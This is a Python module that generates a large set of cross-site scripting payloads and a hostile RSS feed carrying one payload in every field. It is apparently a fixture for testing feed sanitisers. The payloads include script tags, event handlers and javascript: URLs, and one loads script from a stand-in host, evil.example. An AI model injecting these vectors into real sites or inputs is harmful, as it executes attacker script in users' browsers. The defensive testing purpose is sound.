"""XSS vectors and a hostile feed that carries one vector in every field a feed can carry.

Base payloads cover script tags, event attributes, javascript:/data:/vbscript: URLs, SVG and MathML,
CSS expressions and imports, meta refresh, iframes/objects, and template/markup breakouts; each is
also tried entity-encoded, mixed-case and with NUL/whitespace noise, for well over 100 vectors.
"""

from __future__ import annotations

import html
from xml.sax.saxutils import escape

BASE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel=stylesheet href="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    '<img src="javascript:alert(1)">',
    '<img srcset="javascript:alert(1) 1x">',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{ 7*7 }}{% raw %}",
    "[x](javascript:alert(1))",
    "![x](javascript:alert(1))",
]


def _variants(payload: str) -> list[str]:
    return [
        payload,
        html.escape(payload),  # entity-encoded once: must stay text, never become markup
        payload.swapcase(),
        payload.replace("<", "<\x00").replace("alert", "al\u200bert"),
    ]


def vectors() -> list[str]:
    """All vectors, de-duplicated, in a stable order."""
    out: list[str] = []
    for base in BASE:
        for v in _variants(base):
            if v not in out:
                out.append(v)
    return out


def _xml_text(value: str) -> str:
    # XML 1.0 cannot carry NUL; a feed that tried would be rejected by any parser.
    return escape(value.replace("\x00", ""), {'"': "&quot;"})


def hostile_feed() -> bytes:
    """An RSS 2.0 feed, one item per vector, the vector in every field."""
    items = []
    for i, vector in enumerate(vectors()):
        v = _xml_text(vector)
        items.append(
            f"""<item>
  <title>Report {i}: {v}</title>
  <link>{v}</link>
  <guid isPermaLink="false">{v}-{i}</guid>
  <author>{v}</author>
  <dc:creator>{v}</dc:creator>
  <category>{v}</category>
  <pubDate>Fri, 05 Apr 2024 10:{i % 60:02d}:00 GMT</pubDate>
  <description>{_xml_text(f"<p>Officials said the vector {i} was {vector} today.</p>")}</description>
  <content:encoded>{_xml_text(f"<p>Report {i} begins. {vector} The council met on Friday to discuss case {i}.</p><p>{vector}</p>")}</content:encoded>
  <media:content url="{v}" medium="image"/>
  <enclosure url="{v}" type="image/jpeg" length="1"/>
</item>"""
        )
    channel_title = _xml_text("Evil <script>alert(1)</script> Feed")
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/">'
        f"<channel><title>{channel_title}</title><link>https://evil.example/</link>"
        + "".join(items)
        + "</channel></rss>"
    ).encode("utf-8")
